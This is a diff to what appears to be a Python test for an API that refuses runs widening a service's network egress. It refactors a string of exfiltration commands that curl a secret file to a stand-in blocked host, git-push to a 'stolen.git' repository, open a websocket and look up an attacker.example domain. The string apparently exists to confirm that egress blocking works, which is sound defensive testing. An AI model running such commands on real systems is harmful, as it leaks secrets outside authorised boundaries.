@@ -243,13 +243,14 @@ def test_the_api_refuses_a_run_that_widens_the_services_egress(tmp_path: Path) -
         assert narrowed.status_code == 202, narrowed.text
 
 
-EXFILTRATE = """
-curl -s --max-time 10 -o /dev/null -w '%{{http_code}}' --data-binary @secret.txt http://blocked.test:{port}/; echo
-curl -s --max-time 10 -o /dev/null -w '%{{http_connect}}' -d @secret.txt https://blocked.test/; echo
+CURL = "curl -s --max-time 10 -o /dev/null -w"
+UPGRADE = "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13'"
+EXFILTRATE = f"""
+{CURL} '%{{{{http_code}}}}' --data-binary @secret.txt http://blocked.test:{{port}}/; echo
+{CURL} '%{{{{http_connect}}}}' -d @secret.txt https://blocked.test/; echo
 git push -q https://blocked.test/stolen.git HEAD:refs/heads/x > push.err 2>&1; echo "push $?"
-curl -s --max-time 10 -o /dev/null -w '%{{http_code}}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' \
-  -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://blocked.test:{port}/ws; echo
-{python} -c 'import socket; socket.getaddrinfo("exfil.attacker.example", 53)' > /dev/null 2>&1; echo "dns $?"
+{CURL} '%{{{{http_code}}}}' {UPGRADE} -H 'Sec-WebSocket-Key: eA==' http://blocked.test:{{port}}/ws; echo
+{{python}} -c 'import socket; socket.getaddrinfo("x.attacker.example", 53)' > /dev/null 2>&1; echo "dns $?"
 """
 
 
